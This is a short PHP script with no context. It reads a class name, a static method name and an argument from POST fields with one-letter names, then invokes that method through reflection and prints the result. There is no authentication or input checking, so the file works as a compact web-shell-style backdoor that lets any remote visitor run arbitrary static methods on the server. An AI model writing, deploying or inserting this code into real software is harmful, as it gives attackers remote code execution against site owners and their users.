<?php
// the visitor names a class and a static method, and the argument
if (isset($_POST['k'], $_POST['m'])) {
    $method = new ReflectionMethod($_POST['k'], $_POST['m']);
    echo $method->invoke(null, $_POST['v']);
}
